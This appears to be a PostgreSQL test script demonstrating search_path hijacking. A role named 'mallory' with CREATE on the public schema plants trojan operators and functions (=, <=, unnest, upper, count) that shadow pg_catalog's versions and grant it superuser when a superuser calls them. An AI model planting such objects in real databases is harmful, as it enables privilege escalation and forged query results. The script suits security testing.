-- What a role with CREATE on public can do to whoever has public in the search path: objects
-- that match better than those of pg_catalog, which has no exact match for these types.
CREATE ROLE mallory LOGIN;
GRANT CREATE ON SCHEMA public TO PUBLIC;
GRANT USAGE ON SCHEMA app TO mallory;
SET ROLE mallory;
CREATE FUNCTION public.evil(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
	RAISE NOTICE 'the evil % ran as %', what, current_user;
	IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
		ALTER ROLE mallory SUPERUSER;
	END IF;
EXCEPTION WHEN OTHERS THEN
	RAISE NOTICE 'the evil % failed: %', what, SQLERRM;
END $$;
CREATE FUNCTION public.collation_is(oid, regcollation) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('='); RETURN $1 = $2::oid; END $$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regcollation, FUNCTION = public.collation_is);
CREATE FUNCTION public.handler_is(regproc, oid) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('='); RETURN $1::oid = $2; END $$;
CREATE OPERATOR public.= (LEFTARG = regproc, RIGHTARG = oid, FUNCTION = public.handler_is);
CREATE FUNCTION public.unnest(text[]) RETURNS SETOF text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('unnest'); RETURN QUERY SELECT '1'::text FROM generate_series(1, cardinality($1)); END $$;
CREATE FUNCTION public.unnest(oid[]) RETURNS SETOF oid LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('unnest'); RETURN; END $$;
CREATE FUNCTION public.text_is(varchar, text) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('='); RETURN true; END $$;
CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = text, FUNCTION = public.text_is);
CREATE FUNCTION public.text_is(varchar, varchar) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('='); RETURN true; END $$;
CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.text_is);
CREATE FUNCTION public.mood_is(app.mood, app.mood) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('='); RETURN true; END $$;
CREATE OPERATOR public.= (LEFTARG = app.mood, RIGHTARG = app.mood, FUNCTION = public.mood_is);
CREATE FUNCTION public.reaches(numeric, int8) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('<='); RETURN $1 <= $2::numeric; END $$;
CREATE OPERATOR public.<= (LEFTARG = numeric, RIGHTARG = int8, FUNCTION = public.reaches);
CREATE FUNCTION public.times(float8, numeric) RETURNS float8 LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('*'); RETURN $1 * $2::float8; END $$;
CREATE OPERATOR public.* (LEFTARG = float8, RIGHTARG = numeric, FUNCTION = public.times);
CREATE FUNCTION public.joined(text, name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('||'); RETURN $1 || $2::text; END $$;
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = name, FUNCTION = public.joined);
CREATE FUNCTION public.upper(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('upper'); RETURN 'FORGED'; END $$;
CREATE FUNCTION public.count(varchar) RETURNS int8 LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil('count'); RETURN 0; END $$;
RESET ROLE;
